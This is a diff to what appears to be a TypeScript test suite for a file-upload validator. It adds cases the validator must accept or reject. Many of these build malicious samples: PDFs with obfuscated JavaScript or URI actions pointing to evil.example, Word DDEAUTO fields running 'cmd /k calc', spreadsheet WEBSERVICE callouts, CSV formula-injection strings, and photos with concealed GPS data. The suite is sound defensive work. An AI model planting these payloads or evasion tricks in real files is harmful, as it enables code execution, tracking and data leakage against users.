@@ -127,6 +127,53 @@ async function pictures(): Promise<Upload[]> {
       'foto/komentar.jpg',
       join(jpeg.subarray(0, 2), ascii('\xff\xfe\x00\x1b'), script, jpeg.subarray(2)),
     ),
+    refuse('picture with a page behind it that ends as a picture', 'foto/a.png', join(png, webPage, png.subarray(-12))),
+    refuse('AVIF with a page behind it', 'foto/a.avif', join(await make().avif().toBuffer(), webPage)),
+    refuse(
+      'photo with its place as XMP of two bytes a letter',
+      'foto/a.jpg',
+      withXmp(jpeg, Buffer.from(`\ufeff${xmp}`, 'utf16le')),
+    ),
+    refuse(
+      'photo with its place in a second block',
+      'foto/a.jpg',
+      joinBlocks(
+        await make()
+          .jpeg()
+          .withExif({ IFD0: { Artist: 'x' } })
+          .toBuffer(),
+        await make().jpeg().withExif(place).toBuffer(),
+      ),
+    ),
+    refuse(
+      'photo with its place in a first block',
+      'foto/a.jpg',
+      joinBlocks(
+        await make().jpeg().withExif(place).toBuffer(),
+        await make()
+          .jpeg()
+          .withExif({ IFD0: { Artist: 'x' } })
+          .toBuffer(),
+      ),
+    ),
+    refuse(
+      'photo with its place in a further part of XMP',
+      'foto/a.jpg',
+      withBlock(jpeg, `http://ns.adobe.com/xmp/extension/\0${'A'.repeat(32)}\0\0\x02\0\0\0\0\0${xmp}`),
+    ),
+    refuse(
+      'picture with its place as packed XMP',
+      'foto/a.png',
+      withText(png, 'iTXt', join('XML:com.adobe.xmp\0\x01\0\0\0', deflateSync(xmp))),
+    ),
+    refuse(
+      'photo with the place that it shows',
+      'foto/a.jpg',
+      await make()
+        .jpeg()
+        .withExif({ IFD3: { GPSDestLatitudeRef: 'S', GPSDestLatitude: '7/1 15/1 0/1' } })
+        .toBuffer(),
+    ),
     refuse('photo with its place', 'foto/a.jpg', await make().jpeg().withExif(place).toBuffer()),
     refuse('picture with its place', 'foto/a.png', await make().png().withExif(place).toBuffer()),
     refuse('WebP with its place', 'foto/a.webp', await make().webp().withExif(place).toBuffer()),
@@ -134,6 +181,22 @@ async function pictures(): Promise<Upload[]> {
     refuse('WebP with its place as XMP', 'foto/a.webp', await make().webp().withXmp(xmp).toBuffer()),
     refuse('picture with its place as XMP', 'foto/a.png', await make().png().withXmp(xmp).toBuffer()),
   ];
+}
+
+/** A JPEG with one more block of an application after its start. */
+function withBlock(jpeg: Buffer, content: string | Uint8Array): Buffer {
+  const body = typeof content === 'string' ? ascii(content) : Buffer.from(content);
+  const length = Buffer.alloc(2);
+  length.writeUInt16BE(body.length + 2);
+  return join(jpeg.subarray(0, 2), Buffer.from([0xff, 0xe1]), length, body, jpeg.subarray(2));
+}
+
+const withXmp = (jpeg: Buffer, xmp: Uint8Array) => withBlock(jpeg, join('http://ns.adobe.com/xap/1.0/\0', xmp));
+
+/** A JPEG with what another camera wrote before what its own did. */
+function joinBlocks(one: Buffer, other: Buffer): Buffer {
+  const at = one.indexOf('Exif\0\0', 0, 'latin1');
+  return withBlock(other, one.subarray(at, at + one.readUInt16BE(at - 2) - 2));
 }
 
 function crc32(bytes: Uint8Array): number {
@@ -188,6 +251,14 @@ const inner = ascii('5 0 <</S/JavaScript/JS(app.alert(1))>>');
 const objects = (filter: string, data: Uint8Array) => stream(`/Type/ObjStm/N 1/First 4/Filter${filter}`, data);
 const hex = (data: Uint8Array) => ascii(`${Buffer.from(data).toString('hex')}>`);
 const catalogue = '<</Type/Catalog/OpenAction 5 0 R>>';
+
+/** Packed bytes that begin with a word as it stands. */
+function packedBehind(word: string, data: Uint8Array): Buffer {
+  const length = Buffer.from([word.length, 0, ~word.length & 0xff, 0xff]);
+  const whole = join(word, data);
+  const check = deflateSync(whole).subarray(-4);
+  return join(Buffer.from([0x78, 0x01, 0]), length, word, deflateRawSync(data), check);
+}
 
 /** Rows as a PNG would filter them (predictor 12: each byte less the one above). */
 function predicted(data: Uint8Array, columns: number): Buffer {
@@ -263,6 +334,165 @@ function documents(): Upload[] {
       'document that calls somebody up from a page',
       'dokumen/a.pdf',
       pdf('<</Type/Catalog>>', '<</Type/Page/AA<</O<</S/URI/URI(https://evil.example/)>>>>>>'),
+    ),
+    pass(
+      'document that opens at a page',
+      'dokumen/halaman.pdf',
+      pdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/GoTo/D[3 0 R/Fit]>>'),
+    ),
+    pass(
+      'document with a link that is written in digits',
+      'dokumen/angka.pdf',
+      pdf('<</Type/Catalog>>', '<</S/URI/URI(\\150ttps://contoh.example/a\\(b\\))>>', '<</S/URI/URI<687474703A>>>'),
+    ),
+    pass(
+      'document with a packed list of its objects',
+      'dokumen/daftar.pdf',
+      pdf(
+        '<</Type/Catalog>>',
+        objects('/FlateDecode', deflateSync(ascii('5 0 <</S/URI/URI(https://contoh.example/)>>'))),
+        stream(
+          '/Type/XRef/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>',
+          deflateSync(Buffer.alloc(8)),
+        ),
+      ),
+    ),
+    refuse('document with a program before a null', 'dokumen/a.pdf', action('<</S/JavaScript\0/JS(app.alert(1))>>')),
+    refuse(
+      'document that calls somebody up by another object',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(https://evil.example/)>>'),
+    ),
+    refuse(
+      'document that calls somebody up, in disguise',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog/Open#41ction<</S/URI/URI(https://evil.example/)>>>>'),
+    ),
+    refuse(
+      'document that calls somebody up after many spaces',
+      'dokumen/a.pdf',
+      action(`<<${' '.repeat(500)}/S/URI/URI(https://evil.example/)>>`),
+    ),
+    refuse(
+      'document that calls somebody up behind brackets in a text',
+      'dokumen/a.pdf',
+      action('<</T(>>)/S/URI/URI(https://evil.example/)>>'),
+    ),
+    refuse(
+      'document that calls somebody up behind a long remark',
+      'dokumen/a.pdf',
+      action(`%${'x'.repeat(5000)}\n<</S/URI/URI(https://evil.example/)>>`),
+    ),
+    refuse(
+      'document that calls somebody up as a second thing',
+      'dokumen/a.pdf',
+      pdf(
+        '<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next[3 0 R]>>>>',
+        '<</Type/Page>>',
+        '<</S/URI/URI(https://evil.example/)>>',
+      ),
+    ),
+    refuse(
+      'document that calls somebody up from a packed object',
+      'dokumen/a.pdf',
+      pdf(
+        '<</Type/Catalog>>',
+        objects('/FlateDecode', deflateSync(ascii('5 0 <</OpenAction<</S/URI/URI(https://evil.example/)>>>>'))),
+      ),
+    ),
+    ...Object.entries({
+      'in digits': '/URI(\\152avascript:alert\\(1\\))',
+      'over two lines': '/URI(java\\\nscript:alert\\(1\\))',
+      'by another object': '/URI 3 0 R',
+      'by an object that is not there': '/URI 9 0 R',
+      'under a name in digits': '/#55RI(javascript:alert\\(1\\))',
+      'after a comment': '/URI%x\n(javascript:alert\\(1\\))',
+      'after brackets within it': '/URI(javascript:f(")"))',
+      'in two bytes a letter': '/URI(\xfe\xff\0j\0a\0v\0a\0s\0c\0r\0i\0p\0t\0:\0a)',
+    }).map(([how, link]) =>
+      refuse(
+        `document with a link that is a program, ${how}`,
+        'dokumen/a.pdf',
+        pdf('<</Type/Catalog>>', ascii(`<</Type/Annot/Subtype/Link/A<</S/URI${link}>>>>`), '(javascript:alert\\(1\\))'),
+      ),
+    ),
+    refuse(
+      'document whose links all begin with a program',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog/URI<</Base(javascript:alert\\(1\\)//)>>>>', '<</S/URI/URI(x)>>'),
+    ),
+    refuse(
+      'document with a password in disguise',
+      'dokumen/a.pdf',
+      join('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R/Encr#79pt 9 0 R>>\n%%EOF\n'),
+    ),
+    refuse(
+      'document with a page from elsewhere, in disguise',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', stream('/F<</F#53 /#55RL/F(https://evil.example/x)>>', ascii(''))),
+    ),
+    refuse(
+      'document with a stream of the network',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', stream('/F(\\\\\\\\evil.example\\\\x)', ascii(''))),
+    ),
+    refuse(
+      'document with a page of another document',
+      'dokumen/a.pdf',
+      pdf(
+        '<</Type/Catalog>>',
+        stream('/Type/XObject/Subtype/Form/Ref<</F(\\\\\\\\evil.example\\\\x.pdf)/Page 0>>', ascii('')),
+      ),
+    ),
+    refuse(
+      'document with a thread of another document',
+      'dokumen/a.pdf',
+      action('<</S/Thread/F(\\\\\\\\evil.example\\\\x.pdf)/D 0>>'),
+    ),
+    refuse(
+      'document with a program in a packed object that does not say what it is',
+      'dokumen/a.pdf',
+      pdf(catalogue, stream('/N 1/First 4/Filter/FlateDecode', deflateSync(inner))),
+    ),
+    refuse(
+      'document with a program in an object packed as another object says',
+      'dokumen/a.pdf',
+      pdf(catalogue, stream('/Type/ObjStm/N 1/First 4/Filter 3 0 R', deflateSync(inner)), '/FlateDecode'),
+    ),
+    refuse(
+      'document with a program in a packed object after a carriage return',
+      'dokumen/a.pdf',
+      pdf(
+        catalogue,
+        join('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>>\nstream\r', deflateSync(inner), '\nendstream'),
+      ),
+    ),
+    refuse(
+      'document with a program in a packed object after spaces',
+      'dokumen/a.pdf',
+      pdf(
+        catalogue,
+        join(
+          '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>>\nstream  \n',
+          deflateSync(inner),
+          '\nendstream',
+        ),
+      ),
+    ),
+    refuse(
+      'document with a program in a packed object after many spaces',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects(`/FlateDecode${' '.repeat(6000)}`, deflateSync(inner))),
+    ),
+    refuse(
+      'document with a program in a packed object after another word for a beginning',
+      'dokumen/a.pdf',
+      pdf(catalogue, '(>>stream\n)', objects('/FlateDecode', deflateSync(inner))),
+    ),
+    refuse(
+      'document with a program behind the word for an end',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/FlateDecode', packedBehind('endstream', inner))),
     ),
     refuse('document with rich media', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/RichMedia>>')),
     refuse('document with a film', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Movie>>')),
@@ -401,6 +631,10 @@ const openDocument = (type: string, more: Zippable = {}) =>
     ...more,
   });
 
+/** The same archive, with the name of a part that ends in `k` changed to that of the one that ends in `l`. */
+const twice = (archive: Uint8Array) =>
+  ascii(Buffer.from(archive).toString('latin1').replaceAll('document.xmk', 'document.xml'));
+
 function offices(): Upload[] {
   const link = 'word/_rels/document.xml.rels';
   return [
@@ -458,6 +692,165 @@ function offices(): Upload[] {
       'letter with an object from elsewhere',
       'dokumen/a.docx',
       word({ [link]: outside('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html') }),
+    ),
+    refuse(
+      'letter with a picture from elsewhere, under other names',
+      'dokumen/a.docx',
+      word({
+        [link]: strToU8(
+          '<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships"><x:Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/x.png" TargetMode="External"/></x:Relationships>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter with a field that starts a program, under another name',
+      'dokumen/a.docx',
+      word({
+        'word/document.xml': strToU8(
+          '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:body><x:p><x:r><x:instrText>DDEAUTO cmd "/k calc"</x:instrText></x:r></x:p></x:body></x:document>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter with a field that reads another letter',
+      'dokumen/a.docx',
+      word({
+        'word/document.xml': words(
+          '<w:p><w:r><w:instrText> LINK Word.Document.12 "\\\\\\\\evil.example\\\\x.docx" "" \\a \\p </w:instrText></w:r></w:p>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter with a field that asks a database',
+      'dokumen/a.docx',
+      word({ 'word/document.xml': words('<w:p><w:fldSimple w:instr=" DATABASE \\c &quot;DSN=x&quot; "/></w:p>') }),
+    ),
+    pass(
+      'letter with a field that leads to a link',
+      'dokumen/isi.docx',
+      word({
+        'word/document.xml': words(
+          '<w:p><w:r><w:instrText> HYPERLINK \\l "link satu" PAGEREF link \\h </w:instrText></w:r></w:p>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter with a picture from elsewhere in an old drawing',
+      'dokumen/a.docx',
+      word({
+        'word/drawings/vmlDrawing1.vml': strToU8(
+          '<xml><v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape></xml>',
+        ),
+      }),
+    ),
+    pass(
+      'letter with an old drawing',
+      'dokumen/gambar.docx',
+      word({
+        'word/drawings/vmlDrawing1.vml': strToU8(
+          '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="https://contoh.example/"><v:imagedata o:relid="rId1"/><br></v:shape></xml>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter with an added program of the web',
+      'dokumen/a.docx',
+      word({
+        'word/webextensions/webextension1.xml': strToU8(
+          '<we:webextension xmlns:we="x"><we:reference store="https://evil.example/"/></we:webextension>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter whose text has another ending',
+      'dokumen/a.docx',
+      zipSync({
+        '[Content_Types].xml': types('word/document.dat', wordType),
+        '_rels/.rels': first('word/document.dat'),
+        'word/document.dat': words('<w:p><w:r><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:r></w:p>'),
+      }),
+    ),
+    refuse(
+      'sheet of bytes',
+      'dokumen/a.xlsx',
+      sheet({
+        '[Content_Types].xml': types('xl/worksheets/sheet1.bin', 'application/vnd.ms-excel.worksheet'),
+        'xl/worksheets/sheet1.bin': Buffer.alloc(64),
+      }),
+    ),
+    refuse(
+      'letter with two texts of one name',
+      'dokumen/a.docx',
+      twice(
+        zipSync({
+          '[Content_Types].xml': types('word/document.xml', wordType),
+          '_rels/.rels': first('word/document.xml'),
+          'word/document.xmk': words('<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>'),
+          'word/document.xml': words(),
+        }),
+      ),
+    ),
+    refuse(
+      'sheet that asks a host, under another name',
+      'dokumen/a.xlsx',
+      sheet({
+        'xl/worksheets/sheet1.xml': strToU8(
+          '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row><x:c><x:f>WEBSERVICE("https://evil.example/")</x:f></x:c></x:row></x:sheetData></x:worksheet>',
+        ),
+      }),
+    ),
+    ...Object.entries({
+      'by a name':
+        '<definedNames><definedName name="x">WEBSERVICE("https://evil.example/")</definedName></definedNames>',
+      'by a colour':
+        '<conditionalFormatting><cfRule><formula>WEBSERVICE("https://evil.example/")</formula></cfRule></conditionalFormatting>',
+      'by a choice':
+        '<dataValidations><dataValidation><formula1>WEBSERVICE("https://evil.example/")</formula1></dataValidation></dataValidations>',
+    }).map(([how, part]) =>
+      refuse(
+        `sheet that asks a host ${how}`,
+        'dokumen/a.xlsx',
+        sheet({ 'xl/worksheets/sheet1.xml': strToU8(`<worksheet>${part}</worksheet>`) }),
+      ),
+    ),
+    ...Object.entries({
+      'a frame from elsewhere': '<draw:floating-frame xlink:href="https://evil.example/"/>',
+      'a section from elsewhere':
+        '<text:section><text:section-source xlink:href="https://evil.example/x.odt"/></text:section>',
+      'a section of the network':
+        '<text:section><text:section-source xlink:href="\\\\evil.example\\x.odt"/></text:section>',
+      'a film from elsewhere': '<draw:plugin xlink:href="https://evil.example/x.mp4"/>',
+      'an object from elsewhere': '<draw:object xlink:href="https://evil.example/x.odt"/>',
+      'a picture from elsewhere, under other names':
+        '<d:image xmlns:l="http://www.w3.org/1999/xlink" l:href="https://evil.example/x.png"/>',
+      'a program at its opening, under another name':
+        '<s:event-listener s:language="ooo:script" l:href="vnd.sun.star.script:x"/>',
+      'a cell that asks a host':
+        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>',
+      'a cell that asks a program':
+        '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>',
+      'a link that is a program': '<text:a xlink:href="vnd.sun.star.script:x$y?language=Python">x</text:a>',
+    }).map(([what, part]) =>
+      refuse(
+        `OpenDocument with ${what}`,
+        'dokumen/a.odt',
+        openDocument('application/vnd.oasis.opendocument.text', {
+          'content.xml': strToU8(
+            `<office:document-content><office:body>${part}</office:body></office:document-content>`,
+          ),
+        }),
+      ),
+    ),
+    pass(
+      'OpenDocument with a picture and a link',
+      'dokumen/baik.odt',
+      openDocument('application/vnd.oasis.opendocument.text', {
+        'content.xml': strToU8(
+          '<office:document-content><draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://contoh.example/">x</text:a><draw:object xlink:href="./Object 1"/></office:document-content>',
+        ),
+        'Configurations2/accelerator/current.xml': Buffer.alloc(0),
+        'meta.xml': strToU8('<office:meta><meta:template xlink:href="file:///C:/kop.ott"/></office:meta>'),
+      }),
     ),
     refuse('letter with an object inside', 'dokumen/a.docx', word({ 'word/embeddings/oleObject1.bin': container })),
     refuse(
@@ -541,6 +934,15 @@ function texts(): Upload[] {
     refuse('table of formulas', 'dokumen/a.csv', '=cmd|\'/C calc\'!A0,"=HYPERLINK(""https://evil.example/"")"\n'),
     refuse('table of formulas with old line ends', 'dokumen/a.csv', 'a,b\r=1+1,2\r'),
     refuse('table of formulas with a tab before', 'dokumen/a.csv', 'a;"\t=HYPERLINK(1)"\n'),
+    refuse('table of formulas in wide letters', 'dokumen/a.csv', "a,＋cmd|'/C calc'!A0\n"),
+    refuse('table of formulas after a dash of wide letters', 'dokumen/a.csv', "a,－2+3+cmd|'/C calc'!A0\n"),
+    refuse(
+      'table of formulas in bytes of two',
+      'dokumen/a.csv',
+      join(Buffer.from([0xff, 0xfe]), Buffer.from('=1+1', 'utf16le')),
+    ),
+    refuse('page named Markdown', 'dokumen/a.md', webPage),
+    refuse('page named text after a comment', 'dokumen/a.txt', `<!-- x -->${webPage}`),
     refuse('page', 'dokumen/a.html', webPage),
     refuse('page of XML', 'dokumen/a.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
     refuse('XML', 'dokumen/a.xml', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`),
